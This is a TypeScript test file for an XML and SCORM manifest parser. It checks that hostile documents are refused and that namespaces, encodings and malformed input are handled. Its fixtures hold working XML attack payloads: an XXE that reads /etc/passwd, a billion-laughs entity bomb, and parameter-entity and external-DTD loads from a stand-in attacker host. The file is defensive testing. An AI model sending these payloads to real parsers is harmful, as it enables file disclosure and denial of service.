import test from 'ava';
import { parseScormManifest } from './scorm-manifest.ts';
import { attribute, childElements, firstChild, parseXmlDocument, textOf } from './xml-document.ts';

const XXE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE manifest [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<manifest identifier="m" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1">
  <organizations><organization identifier="o"><title>&xxe;</title></organization></organizations>
  <resources/>
</manifest>`;

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;

const PARAMETER_ENTITY_XXE = `<?xml version="1.0"?>
<!DOCTYPE manifest [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>
<manifest/>`;

const EXTERNAL_DTD = `<?xml version="1.0"?>
<!DOCTYPE manifest SYSTEM "http://attacker.invalid/manifest.dtd">
<manifest/>`;

test('an XXE document is refused with the DOCTYPE line, and no entity is resolved', (t) => {
  const r = parseXmlDocument(XXE);
  t.false(r.ok);
  if (r.ok) return;
  t.is(r.error.line, 2);
  t.regex(r.error.message, /XXE/);
  t.regex(r.error.fix, /Remove the DOCTYPE/);
});

test('a billion-laughs document is refused before any expansion', (t) => {
  const started = process.hrtime.bigint();
  const r = parseXmlDocument(BILLION_LAUGHS);
  t.false(r.ok);
  if (r.ok) return;
  t.is(r.error.line, 2);
  t.regex(r.error.message, /billion laughs/);
  t.true(Number(process.hrtime.bigint() - started) / 1e6 < 1000);
});

test('parameter entities and external DTDs are refused too', (t) => {
  const pe = parseXmlDocument(PARAMETER_ENTITY_XXE);
  t.false(pe.ok);
  const ext = parseXmlDocument(EXTERNAL_DTD);
  t.false(ext.ok);
  if (!ext.ok) t.regex(ext.error.message, /external DTD/);
});

test('the manifest parser reports an XXE manifest as an error with file and line', (t) => {
  const { model, report } = parseScormManifest(Buffer.from(XXE), {
    file: 'imsmanifest.xml',
    archiveFiles: new Set(),
  });
  t.is(model, null);
  t.is(report.errors.length, 1);
  t.like(report.errors[0], { file: 'imsmanifest.xml', line: 2 });
});

test('a DOCTYPE without entities or external subset is ignored with a warning', (t) => {
  const r = parseXmlDocument('<?xml version="1.0"?>\n<!DOCTYPE manifest>\n<manifest/>');
  t.true(r.ok);
  t.is(r.warnings.length, 1);
  t.is(r.warnings[0]?.line, 2);
});

test('an undefined entity is a well-formedness error with its line', (t) => {
  const r = parseXmlDocument('<a>\n<b>caf&eacute;</b>\n</a>');
  t.false(r.ok);
  if (r.ok) return;
  t.is(r.error.line, 2);
  t.regex(r.error.message, /undefined entity/);
  t.regex(r.error.fix, /numeric reference/);
});

test('malformed XML reports the parser line and column', (t) => {
  const r = parseXmlDocument(
    '<?xml version="1.0"?>\n<manifest>\n  <organizations>\n  </organisations>\n</manifest>',
  );
  t.false(r.ok);
  if (r.ok) return;
  t.is(r.error.line, 4);
  t.truthy(r.error.column);
  t.regex(r.error.message, /not well-formed/);
});

test('elements keep their namespace and the line of their start tag, whatever the prefix', (t) => {
  const r = parseXmlDocument(`<x:root xmlns:x="urn:a" xmlns="urn:b">
  <child
     y:attr="1" plain="2" xmlns:y="urn:c">text<![CDATA[ & more]]></child>
</x:root>`);
  t.true(r.ok);
  if (!r.ok) return;
  t.is(r.root.ns, 'urn:a');
  const child = firstChild(r.root, 'urn:b', 'child');
  t.truthy(child);
  if (!child) return;
  t.is(child.line, 2);
  t.is(attribute(child, 'attr', 'urn:c'), '1');
  t.is(attribute(child, 'plain'), '2');
  t.is(attribute(child, 'attr'), undefined);
  t.is(textOf(child), 'text & more');
  t.is(childElements(r.root, 'urn:a', 'child').length, 0);
});

test('an undeclared conventional prefix is bound to its namespace with a warning', (t) => {
  const r = parseXmlDocument('<manifest><resource adlcp:scormtype="sco"/></manifest>');
  t.true(r.ok);
  if (!r.ok) return;
  t.is(r.root.children[0]?.attributes[0]?.ns, 'http://www.adlnet.org/xsd/adlcp_rootv1p2');
  t.regex(r.warnings[0]?.message ?? '', /adlcp/);
});

test('an undeclared unknown prefix is an error', (t) => {
  const r = parseXmlDocument('<manifest><foo:bar/></manifest>');
  t.false(r.ok);
  if (!r.ok) t.regex(r.error.fix, /Declare the prefix/);
});

test('encodings: UTF-8 BOM, UTF-16 with BOM, a declared ISO-8859-1, and mislabelled Windows-1252', (t) => {
  const text = '<?xml version="1.0"?><t>Café</t>';
  const utf8 = parseXmlDocument(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]));
  t.true(utf8.ok && textOf(utf8.root) === 'Café');

  const utf16 = parseXmlDocument(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
  t.true(utf16.ok && textOf(utf16.root) === 'Café');

  const latin1 = parseXmlDocument(
    Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><t>Café</t>', 'latin1'),
  );
  t.true(latin1.ok && textOf(latin1.root) === 'Café');

  const mislabelled = parseXmlDocument(
    Buffer.from('<?xml version="1.0" encoding="UTF-8"?><t>Café</t>', 'latin1'),
  );
  t.true(mislabelled.ok && textOf(mislabelled.root) === 'Café');
  t.regex(mislabelled.warnings[0]?.message ?? '', /Windows-1252/);

  const unknown = parseXmlDocument(Buffer.from('<?xml version="1.0" encoding="x-klingon"?><t/>'));
  t.false(unknown.ok);
});

test('an empty document and a lone XML declaration have no root element', (t) => {
  for (const doc of ['', '<?xml version="1.0" encoding="UTF-8"?>\n']) {
    const r = parseXmlDocument(doc);
    t.false(r.ok);
    if (!r.ok) t.regex(r.error.message, /root element/);
  }
});
